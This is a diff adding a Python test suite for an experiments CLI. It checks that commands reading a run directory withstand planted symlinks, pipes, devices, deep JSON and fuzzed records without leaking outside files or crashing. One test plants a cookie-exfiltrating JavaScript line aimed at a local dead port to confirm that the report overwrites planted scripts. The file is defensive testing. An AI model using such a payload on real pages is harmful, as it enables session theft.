@@ -1,0 +1,214 @@
+"""Whatever lies in a run directory, commands that read it end in order and touch nothing outside of it."""
+
+from __future__ import annotations
+
+import json
+import os
+import random
+import shutil
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from experiments import cli
+from tests.experiments.report.run_directories import FakeRun
+
+READING = (
+    ("status", "{run}", "--json"),
+    ("report", "{run}", "--json"),
+    ("export", "{run}", "--format", "jsonl", "--out", "{out}/rows.jsonl"),
+    ("export", "{run}", "--format", "csv", "--out", "{out}/rows.csv"),
+    ("export", "{run}", "--format", "inspect", "--out", "{out}/log.json"),
+    ("diff", "{run}", "{run}", "--json"),
+)
+"""Commands that read a run and start no model."""
+SECRET = "the-text-of-a-file-outside"
+
+
+@pytest.fixture(scope="module")
+def kept(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A small run as the product writes it, made once."""
+    run = FakeRun(tmp_path_factory.mktemp("kept") / "run")
+    run.write_unit(3)
+    run.write_unit(4)
+    run.put("plan.json", [{"unit": run.unit_id(3), "layer": "a", "name": "3", "seed": 0}])
+    return run.root
+
+
+def commands(run: Path, out: Path) -> Iterator[tuple[str, int]]:
+    """Run each reading command in this process; yield its words and its exit code. Other exceptions pass."""
+    out.mkdir(exist_ok=True)
+    for words in READING:
+        filled = [word.format(run=run, out=out) for word in words]
+        with pytest.MonkeyPatch.context() as patch:
+            patch.setattr("sys.argv", ["maia", *filled])
+            try:
+                cli.main()
+            except SystemExit as stop:
+                yield " ".join(filled), int(stop.code or 0)
+            else:
+                yield " ".join(filled), 0
+
+
+def outside(folder: Path) -> dict[str, bytes]:
+    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
+
+
+def as_link(path: Path, target: Path) -> None:
+    path.unlink()
+    path.symlink_to(target)
+
+
+def as_pipe(path: Path, _: Path) -> None:
+    path.unlink()
+    os.mkfifo(path)
+
+
+def as_folder(path: Path, _: Path) -> None:
+    path.unlink()
+    path.mkdir()
+
+
+def as_device(path: Path, _: Path) -> None:
+    as_link(path, Path("/dev/zero"))
+
+
+def as_deep(path: Path, _: Path) -> None:
+    path.write_text("[" * 100_000 + "]" * 100_000)
+
+
+def as_nothing(path: Path, _: Path) -> None:
+    path.unlink()
+
+
+def as_noise(path: Path, _: Path) -> None:
+    path.write_bytes(random.Random(str(path)).randbytes(300))
+
+
+FORMS: tuple[Callable[[Path, Path], None], ...] = (
+    *(as_link, as_pipe, as_folder, as_device, as_deep, as_nothing, as_noise),
+)
+
+
+@pytest.mark.parametrize("form", FORMS, ids=lambda form: form.__name__)
+def test_a_file_of_any_kind_in_a_records_place_costs_that_record(
+    form: Callable[[Path, Path], None], kept: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Links, pipes, devices, folders, deep JSON and noise: no traceback, no hang, nothing of outside is shown."""
+    victim = tmp_path / "outside"
+    victim.mkdir()
+    (victim / "secret.json").write_text(json.dumps({"label": SECRET, "unit": SECRET}))
+    before = outside(victim)
+    for name in ("done.json", "manifest.json", "plan.json", "0001.json"):
+        run = tmp_path / f"run-{name}"
+        shutil.copytree(kept, run)
+        form(next(run.rglob(name)), victim / "secret.json")
+        for words, code in commands(run, tmp_path / "out"):
+            assert code in (0, 1, 2), words
+    assert outside(victim) == before
+    printed = capsys.readouterr()
+    assert SECRET not in printed.out + printed.err
+    pages = [path for path in tmp_path.rglob("*.html") if not path.is_relative_to(victim)]
+    assert not any(SECRET in page.read_text() for page in pages)
+
+
+@pytest.mark.parametrize("name", ["report", "report/units", "report/assets", "report/index.html"])
+def test_a_link_in_the_place_of_a_page_is_never_written_through(
+    name: str, kept: Path, tmp_path: Path
+) -> None:
+    """A report is written below real folders, and removes no page that it did not write."""
+    run, victim = tmp_path / "run", tmp_path / "victim"
+    shutil.copytree(kept, run)
+    victim.mkdir()
+    (victim / "index.html").write_text("mine")
+    (victim / "about.html").write_text("mine too")
+    place = run / name
+    place.parent.mkdir(parents=True, exist_ok=True)
+    place.symlink_to(victim / "index.html" if place.suffix else victim)
+    before = outside(victim)
+    for words, code in commands(run, tmp_path / "out"):
+        assert code in (0, 1, 2), words
+    assert outside(victim) == before
+
+
+def test_scripts_that_a_sender_left_are_replaced_by_the_reports_own(kept: Path, tmp_path: Path) -> None:
+    run = tmp_path / "run"
+    shutil.copytree(kept, run)
+    assert all(code == 0 for words, code in commands(run, tmp_path / "out") if words.startswith("report"))
+    scripts = sorted((run / "report" / "assets").glob("*.js"))
+    own = {script: script.read_bytes() for script in scripts}
+    assert own
+    for script in scripts:
+        script.write_text("location = 'http://127.0.0.1:9/' + document.cookie")
+    assert all(code == 0 for words, code in commands(run, tmp_path / "out") if words.startswith("report"))
+    assert {script: script.read_bytes() for script in scripts} == own
+
+
+VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | st.floats() | st.text(max_size=20),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
+    max_leaves=6,
+)
+
+
+def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    """Yield the way to every value inside a JSON value."""
+    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    for key, each in items:
+        yield (*path, key)
+        yield from places(each, (*path, key))
+
+
+def mutate(run: Path, data: st.DataObject) -> None:
+    """Change one record of the run: a value inside it, its bytes, or its length."""
+    records = sorted(path for path in run.rglob("*.json"))
+    record = data.draw(st.sampled_from(records))
+    content = record.read_bytes()
+    if data.draw(st.booleans()):
+        value = json.loads(content)
+        ways = list(places(value)) or [()]
+        way = data.draw(st.sampled_from(ways))
+        target = value
+        for key in way[:-1]:
+            target = target[key]
+        if way:
+            target[way[-1]] = data.draw(VALUES)
+        record.write_text(json.dumps(value if way else data.draw(VALUES)))
+    else:
+        cut = data.draw(st.integers(0, len(content)))
+        record.write_bytes(content[:cut] + data.draw(st.binary(max_size=20)))
+
+
+def fuzzed(kept: Path, folder: Path, data: st.DataObject) -> None:
+    run = folder / "run"
+    shutil.rmtree(run, ignore_errors=True)
+    shutil.copytree(kept, run)
+    for _ in range(data.draw(st.integers(1, 3))):
+        mutate(run, data)
+    for words, code in commands(run, folder / "out"):
+        assert code in (0, 1, 2), words
+
+
+FUZZ = {"deadline": None, "suppress_health_check": list(HealthCheck)}
+
+
+@settings(max_examples=15, derandomize=True, **FUZZ)
+@given(data=st.data())
+def test_no_changed_record_ends_a_command_with_a_traceback(
+    data: st.DataObject, kept: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    fuzzed(kept, tmp_path_factory.getbasetemp() / "fuzz", data)
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(3600)
+@settings(max_examples=2000, **FUZZ)
+@given(data=st.data())
+def test_no_changed_record_of_many_ends_a_command_with_a_traceback(
+    data: st.DataObject, kept: Path, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    fuzzed(kept, tmp_path_factory.getbasetemp() / "fuzz-long", data)
